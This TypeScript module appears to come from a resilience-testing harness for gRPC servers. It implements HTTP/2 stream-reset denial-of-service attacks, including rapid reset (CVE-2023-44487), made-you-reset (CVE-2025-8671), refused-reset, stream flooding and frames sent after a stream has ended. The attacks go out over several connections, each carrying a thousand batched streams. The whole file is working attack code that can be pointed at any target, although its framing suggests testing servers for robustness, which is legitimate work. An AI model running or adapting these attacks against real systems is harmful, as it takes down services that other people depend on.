import { type Attack, atOnce, digested, onConnection, pour, streamOf, type Target } from "./attack.ts";
import { CLAIM_PATH, call, callBlock, claimBody } from "./calls.ts";
import {
  callHeaders,
  data,
  FLAG,
  frame,
  headerBlock,
  headers,
  OPENING,
  priority,
  reset,
  TYPE,
  windowUpdate,
} from "./frame.ts";

const CONNECTIONS = 4;
const STREAMS = 1000;
/** Frames that go out in one write, as an attacker would send them. */
const BATCH = 100;

/** Streams in batches, each made of what `framesOf` gives. */
function streams(target: Target, framesOf: (stream: number) => Buffer, count = STREAMS): Promise<void> {
  return atOnce(CONNECTIONS, () =>
    onConnection(target, async (connection) => {
      await connection.send(OPENING);
      await pour(target, connection, count / BATCH, (batch) =>
        Buffer.concat(Array.from({ length: BATCH }, (_, i) => framesOf(streamOf(batch * BATCH + i)))),
      );
      await digested(connection);
    }),
  );
}

/** What makes a server reset a stream by itself: each is an error of that stream and not of the connection. */
const PROVOCATIONS: readonly ((stream: number) => Buffer)[] = [
  (stream) => windowUpdate(stream, 0),
  (stream) => windowUpdate(stream, 2 ** 31 - 1),
  (stream) => priority(stream, stream),
  (stream) => frame(TYPE.priority, FLAG.none, stream, Buffer.alloc(4)),
  (stream) => data(stream, Buffer.alloc(1)),
  (stream) => frame(TYPE.headers, FLAG.endHeaders, stream, Buffer.of(0x82)),
];

/** What is refused before there is a call, by its path or by its type. */
const REFUSED = [
  headerBlock(callHeaders("/nobody.has.This/Method")),
  headerBlock(callHeaders(CLAIM_PATH).map(([name, value]) => [name, name === "content-type" ? "text/plain" : value])),
];

/** Errors of a stream, not just its end: whoever does not listen for them is ended by them. */
const ERRORS: readonly ((stream: number) => Buffer)[] = [
  (stream) => reset(stream, 1),
  (stream) => reset(stream, 2),
  (stream) => windowUpdate(stream, 0),
];

export const RESETS: readonly Attack[] = [
  {
    ...{ name: "rapid-reset", port: "grpc", what: "calls that are reset in the same write (CVE-2023-44487)" },
    round: (target) => streams(target, (stream) => Buffer.concat([call(target, stream), reset(stream)])),
  },
  {
    ...{ name: "rapid-reset-headers", port: "grpc", what: "the same before the message has come" },
    round: (target) =>
      streams(target, (stream) => Buffer.concat([headers(stream, callBlock(target, CLAIM_PATH)), reset(stream)])),
  },
  {
    ...{ name: "made-you-reset", port: "grpc", what: "calls that the server itself must reset (CVE-2025-8671)" },
    round: (target) =>
      streams(target, (stream) => Buffer.concat([call(target, stream), target.chance.pick(PROVOCATIONS)(stream)])),
  },
  {
    ...{ name: "refused-reset", port: "grpc", what: "what is no call, and breaks as it is refused (CVE-2026-48068)" },
    round: (target) =>
      streams(target, (stream) => {
        const { chance } = target;
        return Buffer.concat([headers(stream, chance.pick(REFUSED)), chance.pick(ERRORS)(stream)]);
      }),
  },
  {
    ...{ name: "many-streams", port: "grpc", what: "five times as many calls at once as the server lets in" },
    round: (target) => streams(target, (stream) => headers(stream, callBlock(target, CLAIM_PATH)), 5_000),
  },
  {
    ...{ name: "after-end", port: "grpc", what: "DATA, HEADERS and trailers after the end of the stream" },
    round: (target) =>
      streams(target, (stream) => {
        const late = [data(stream, claimBody(target)), headers(stream, callBlock(target, CLAIM_PATH)), reset(stream)];
        return Buffer.concat([call(target, stream), target.chance.pick(late)]);
      }),
  },
];
